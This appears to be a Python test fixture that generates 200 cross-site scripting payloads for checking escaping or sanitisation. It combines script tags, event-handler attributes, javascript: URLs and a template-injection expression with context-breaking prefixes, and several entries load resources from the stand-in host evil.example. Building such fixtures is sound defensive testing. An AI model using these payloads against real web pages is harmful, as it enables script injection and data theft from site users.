"""Two hundred texts that would run as script, were any of them ever taken for markup."""

from __future__ import annotations

from itertools import product

CALL = "alert(document.domain)"
BODIES = (
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg/onload={CALL}//",
    f"<body onload={CALL}>",
    f"<iframe src=javascript:{CALL}>",
    f"<a href=javascript:{CALL}>x</a>",
    f"<input autofocus onfocus={CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<video><source onerror={CALL}>",
    f"<math><mtext></mtext><script>{CALL}</script>",
    f"<style>@import 'http://evil.example/x.css'</style><p onclick={CALL}>",
    f"<object data=javascript:{CALL}>",
    f"<marquee onstart={CALL}>",
    f"<form action=javascript:{CALL}><button>",
    "<base href=http://evil.example/><script src=x></script>",
    f"<template><script>{CALL}</script></template>",
    "<img src=http://evil.example/a.png>",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
)
HEADS = ("", '">', "'>", "</script>", "</title>", "</textarea>", "-->", "]]>", "</style>", "\\u003c/p>")
PAYLOADS = tuple(head + body for body, head in product(BODIES, HEADS))
assert len(set(PAYLOADS)) == 200
PARTS = 8  # all of them in every text, a part at a time: a text of kilobytes is none that a page is made for


def part_of(number: int) -> tuple[str, ...]:
    """One part of the payloads, of every kind some."""
    return PAYLOADS[number::PARTS]
